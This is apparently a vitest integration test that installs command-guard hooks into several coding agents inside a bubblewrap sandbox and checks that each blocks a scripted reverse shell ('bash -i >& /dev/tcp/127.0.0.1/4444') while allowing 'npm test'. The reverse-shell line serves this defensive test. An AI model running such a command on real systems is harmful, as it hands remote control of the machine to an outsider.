import { execFileSync } from 'node:child_process'
import { cp, mkdir } from 'node:fs/promises'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Agent } from '#agents/agent.ts'
import { claudeCodeAgent } from '#agents/claude-code/agent.ts'
import { codexAgent } from '#agents/codex/agent.ts'
import { geminiAgent } from '#agents/gemini/agent.ts'
import { opencodeAgent } from '#agents/opencode/agent.ts'
import { NOTHING_SPENT } from '#contract/budget.ts'
import { createGateway } from '#gateway/create-gateway.ts'
import type { Gateway } from '#gateway/gateway.ts'
import { createPrices } from '#gateway/prices.ts'
import { stageGuestRuntime } from '#sandbox/guest-runtime.ts'
import { DEFAULT_LIMITS } from '#sandbox/limits.ts'
import { packageClosure } from '#sandbox/package-closure.ts'
import { taskCommand } from '#sandbox/task-command.ts'
import { GRANT } from '#test/agents/guest-run.ts'
import { runSpec, specOf } from '#test/port-suites/sandbox-specs.ts'
import { type BubblewrapRig, bubblewrapRig, HOST_USER } from '#test/sandbox/bubblewrap-rig.ts'
import { agentMount } from '#test/support/agent-packages.ts'
import { AGENT_SCRIPTS } from '#test/support/agent-scripts.ts'
import { type JourneyModel, startJourneyModel } from '#test/support/journey-model.ts'
import { registryObstacle } from '#test/support/npm-project.ts'

const ROOT = resolve(import.meta.dirname, '../..')
/** What the command line loads before it knows its command, and what the command guard needs. */
const PACKAGES = [
  '@bomb.sh/tab',
  '@clack/prompts',
  '@sigstore/core',
  'canonicalize',
  'commander',
  'eventsource-parser',
  'picomatch',
  'unbash',
  'yaml',
  'zod',
]

const obstacle = await registryObstacle()

interface Hooked {
  readonly agent: Agent
  readonly protocol: 'anthropic' | 'openai-responses' | 'openai-chat' | 'gemini'
  readonly model: string
  /** Where its hook goes. */
  readonly place: '--user' | '--project'
  /** Words put into its command line. */
  readonly words?: readonly string[]
  /** Its environment, changed; undefined takes a variable away. */
  readonly environment?: Readonly<Record<string, string | undefined>>
}

const HOOKED: readonly Hooked[] = [
  { agent: claudeCodeAgent, protocol: 'anthropic', model: 'claude-sonnet-4-5', place: '--user' },
  {
    agent: codexAgent,
    protocol: 'openai-responses',
    model: 'gpt-5.5',
    place: '--user',
    // A person trusts a new hook with `/hooks`, which needs a terminal.
    words: ['--dangerously-bypass-hook-trust'],
  },
  { agent: geminiAgent, protocol: 'gemini', model: 'gemini-2.5-flash', place: '--project' },
  {
    agent: opencodeAgent,
    protocol: 'openai-chat',
    model: 'some-open-model',
    place: '--user',
    environment: { OPENCODE_PURE: undefined, XDG_CONFIG_HOME: undefined },
  },
]

describe.skipIf(obstacle !== undefined)(
  `the hooks of the real agents${obstacle === undefined ? '' : `: ${obstacle}`}`,
  () => {
    let rig: BubblewrapRig
    let model: JourneyModel
    let gateway: Gateway
    let sources: string
    beforeAll(async () => {
      rig = await bubblewrapRig()
      model = await startJourneyModel()
      sources = await checkout(rig.root)
      gateway = createGateway({
        stopwatch: () => performance.now(),
        clock: Date.now,
        prices: createPrices({ clock: Date.now }),
        ...(HOST_USER === undefined ? {} : { sandboxGroup: HOST_USER.gid }),
      })
    }, 240_000)
    afterAll(async () => {
      await gateway?.close()
      await model?.close()
      await rig?.close()
    })

    test.for(HOOKED.map((hooked) => [hooked.agent.name, hooked] as const))(
      'that of %s stops a reverse shell, with a reason that the model is told, and lets npm test through',
      async ([name, { agent, protocol, model: modelName, place, words, environment }]) => {
        const script = AGENT_SCRIPTS[name]
        if (script === undefined) throw new Error('every agent has a script')
        model.play(modelName, [
          script.shell('touch shell-began; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'),
          script.shell('npm test'),
        ])
        const workspace = await rig.directory()
        const manifest = '{"scripts":{"test":"touch tests-ran"}}'
        execFileSync('sh', ['-c', 'printf %s "$1" > "$0/package.json"', workspace, manifest])
        if (HOST_USER) execFileSync('chown', ['-R', `${HOST_USER.uid}:${HOST_USER.gid}`, workspace])
        const runtime = await stageGuestRuntime({
          root: ROOT,
          runtimeDirectory: rig.options.runtimeDirectory,
          node: process.execPath,
        })
        const lane = await openLane(protocol, modelName)
        const plan = agent.plan(
          { intent: 'Try two things.', grant: GRANT },
          { provider: 'scripted', protocol, name: modelName },
        )
        const install = `${runtime.node} /opt/airlock/checkout/src/main.ts hook ${name} --install ${place} --yes`
        const mounts = [
          ...plan.mounts,
          await agentMount(name),
          { source: sources, target: '/opt/airlock/checkout' },
        ]
        const [program, ...rest] = plan.command
        const { ending, stderr } = await runSpec(
          rig.driver,
          specOf(workspace, ['true'], {
            ...taskCommand(
              'run',
              runtime,
              ['/bin/sh', '-c', `${install} >&2 && exec "$@"`, 'sh', program, ...rest, ...(words ?? [])],
              { environment: changed(plan.environment, environment ?? {}), mounts },
            ),
            socketDirectory: lane,
            limits: { ...DEFAULT_LIMITS, seconds: 120 },
            input: Buffer.from(plan.input),
          }),
        )
        expect({ cause: ending.cause, exitCode: ending.exitCode, stderr }).toMatchObject({
          cause: 'exited',
          exitCode: 0,
        })
        const left = execFileSync('ls', [workspace]).toString().trim().split('\n')
        expect(left).toEqual(['package.json', 'tests-ran'])
        expect(JSON.stringify(model.requests().at(-1)?.body)).toContain('network connection')
      },
    )

    async function openLane(protocol: Hooked['protocol'], modelName: string): Promise<string> {
      const lane = join(rig.root, `lane-${protocol}`)
      await gateway.open({
        attempt: `att_${protocol}`,
        directory: lane,
        provider: {
          name: 'scripted',
          protocol,
          baseUrl: model.url,
          key: 'sk-held-by-the-gateway',
          models: [],
        },
        model: modelName,
        budget: GRANT.budget,
        spent: NOTHING_SPENT,
        egress: [],
        onEvent: () => {},
      })
      return lane
    }

    /** The sources and what they import, where the account of the sandbox can read them. */
    async function checkout(directory: string): Promise<string> {
      const place = join(directory, 'checkout')
      await mkdir(place)
      await cp(join(ROOT, 'package.json'), join(place, 'package.json'))
      await cp(join(ROOT, 'src'), join(place, 'src'), { recursive: true })
      for (const { path } of await packageClosure(ROOT, PACKAGES))
        await cp(join(ROOT, path), join(place, path), { recursive: true })
      return place
    }
  },
)

function changed(
  environment: Readonly<Record<string, string>>,
  changes: Readonly<Record<string, string | undefined>>,
): Record<string, string> {
  return Object.fromEntries(
    Object.entries({ ...environment, ...changes }).filter(
      (entry): entry is [string, string] => entry[1] !== undefined,
    ),
  )
}
